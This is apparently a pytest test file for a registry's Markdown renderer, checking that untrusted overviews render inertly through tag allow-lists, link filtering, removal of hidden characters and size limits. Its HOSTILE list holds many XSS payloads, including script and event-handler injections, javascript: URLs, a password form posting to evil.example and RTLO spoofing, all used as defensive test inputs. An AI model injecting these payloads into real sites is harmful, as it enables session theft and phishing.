"""Overviews are somebody else's: whatever stands in them does nothing but show."""

import asyncio
import re
from html.parser import HTMLParser
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from registry.web.markdown import MAX_SOURCE, render, show

ALLOWED: Final[dict[str, set[str]]] = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
    **{tag: set() for tag in ("blockquote", "br", "code", "del", "em", "hr", "li", "p", "pre", "s", "span")},
    **{tag: set() for tag in ("strong", "table", "tbody", "td", "th", "thead", "tr", "ul")},
}

UNSEEN: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
LINK: Final = re.compile("https?://|mailto:|#overview-", re.IGNORECASE)

HOSTILE: Final = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">x</p>',
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(1)](https://evil.example/p.png)',
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: data:text/html,x\n\n![x]",
    "[x](/r/owner/app/-/settings)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](?a=b)",
    "[x](http:evil.example)",
    "[x](ftp://evil.example)",
    "[x](blob:https://a.example/1)",
    "[x](&#9;javascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[![x](javascript:alert(1))](https://a.example)",
    "[![x](https://a.example)](javascript:alert(1))",
    "<https://a.example/<script>alert(1)</script>>",
    '# x" onclick="alert(1)',
    "# &quot; onclick=alert(1)",
    "# \u202e",
    "&#x202e;gnp.exe&#8236;",
    "[&#x2066;](https://a.example '&#x202e;')",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| 1 | 2 |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u202c",
    "a\u2066b\u2069c",
    "a\x00b\x1b[31m",
]


class Seen(HTMLParser):
    """The tags and attributes that a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def check(source: str) -> Seen:
    seen = Seen()
    html = str(render(source))
    seen.feed(html)
    for tag, attributes in seen.found:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ALLOWED[tag], attributes
        assert LINK.match(attributes.get("href") or "#overview-"), attributes
        assert (attributes.get("id") or "overview-").startswith("overview-")
        if tag == "a":
            assert attributes["rel"] == "nofollow noopener noreferrer"
    assert not UNSEEN.search(html)
    return seen


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_is_inert(source: str) -> None:
    check(source)
    check(f"text {source} text\n\n* {source}\n\n> {source}")


@given(st.text(max_size=200))
def test_any_text_is_inert(source: str) -> None:
    check(source)


@given(
    st.lists(
        st.sampled_from(["<", ">", "[", "](", ")", "`", "*", "!", "javascript:", '"', "'", "\n", "&#x6a;"])
    )
)
def test_any_markup_is_inert(parts: list[str]) -> None:
    check("".join(parts))


@pytest.mark.parametrize("character", ["\u202e", "\u2066", "\u200f", "\x1b", "\x00"])
def test_what_reorders_or_hides_text_is_shown(character: str) -> None:
    for source in (f"a{character}b", f"a&#{ord(character)};b", f"# a{character}b", f"`a{character}b`"):
        assert check(source).text.strip() == "a\N{REPLACEMENT CHARACTER}b"


def test_markdown_is_rendered() -> None:
    seen = check("# Title\n\n**bold** ~~gone~~ [link](https://a.example)\n\n| a |\n|---|\n| 1 |\n\n1. one\n")
    assert [tag for tag, _ in seen.found if tag in ("h1", "h2", "strong", "s", "a", "td", "ol")] == (
        ["h2", "strong", "s", "a", "td", "ol"]
    )


def test_headings_are_named() -> None:
    seen = check("# How to `run` it!\n\n## *Über* uns\n\n# x\n\n# x\n\n# !\n\n###### " + "y" * 99)
    assert [(tag, each["id"]) for tag, each in seen.found if "id" in each] == [
        ("h2", "overview-how-to-run-it"),
        ("h3", "overview-über-uns"),
        ("h2", "overview-x"),
        ("h2", "overview-x-1"),
        ("h2", "overview-section"),
        ("h6", "overview-" + "y" * 64),
    ]


@pytest.mark.parametrize(
    ("source", "links"),
    [
        ("[x](https://a.example/b?c=d#e)", ["https://a.example/b?c=d#e"]),
        ("[x](HTTP://a.example)", ["HTTP://a.example"]),
        ("[x](mailto:ann@a.example)", ["mailto:ann@a.example"]),
        ("[x](#how-to-run)", ["#overview-how-to-run"]),
        ("<https://a.example>", ["https://a.example"]),
        ("![a cat](https://a.example/cat.png)", ["https://a.example/cat.png"]),
        ("[![badge](https://a.example/b.svg)](https://a.example)", ["https://a.example"]),
        ("[a](https://a.example) ![b](https://b.example)", ["https://a.example", "https://b.example"]),
        (
            "see https://a.example/b_c?d=e&f. And (http://b.example/x_(y)), or __HTTPS://c.example__",
            [
                "https://a.example/b_c?d=e&f",
                "http://b.example/x_(y)",
                "HTTPS://c.example",
            ],
        ),
        ("| https://a.example |\n|-|\n| http://[::1]:80/ |", ["https://a.example", "http://[::1]:80/"]),
        ("[https://a.example and https://b.example](https://c.example)", ["https://c.example"]),
        ("`https://a.example` xhttps://a.example http:// ftp://a.example setup.py www.a.example", []),
        ("http://\u202ea.example //https://a.example", []),
        ("[x](docs/more.md) [y](/settings) [z](//b.example)", []),
    ],
)
def test_links(source: str, links: list[str]) -> None:
    found = [each.get("href") for tag, each in check(source).found if tag == "a"]
    assert [each for each in found if each] == links


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("![a *cat*](https://a.example/cat.png)", "a cat"),
        ("![](https://a.example/cat.png)", "image"),
        ("[![badge](https://a.example/b.svg)](https://a.example)", "badge"),
        ("![x](javascript:alert(1))", "![x](javascript:alert(1))"),
        ("![x](cat.png)", "x"),
    ],
)
def test_image_is_text(source: str, text: str) -> None:
    assert check(source).text.strip() == text


@pytest.mark.parametrize(
    "source",
    [
        ">" * 10**5,
        "[" * 10**5,
        "* " * 10**5,
        "a" * 10**6,
        "`" * 10**5,
        "<b " * 10**5,
        '"' * 10**5,
        "http://" * 9000,
        "http://a.example/(" * 3500,
        "http://a.example/" + ")" * 60_000,
        "http://a.example/'*" * 3400,
        "[a]: http://a.example/" + "b" * 20_000 + "\n\n" + "[a]" * 14_000,
        "[a]: http://a.example '" + "b" * 20_000 + "'\n\n" + "![a]" * 10_000,
        "[a]: http://a.example 'b'\n\n" + "[a] " * 16_000,
        "|" * 200 + "\n" + "|-" * 199 + "|\n" + "|\n" * 5000,
    ],
    ids=range(15),
)
def test_size_is_bounded(source: str) -> None:
    assert len(render(source)) < 24 * MAX_SOURCE


async def test_overview_is_rendered_once() -> None:
    source = "# An overview that is in no other test"
    first, second = await asyncio.gather(show(source), show(source))
    assert first is second is await show(source) is render(source)
    assert await show(source + "\n" * MAX_SOURCE + "x") is not first
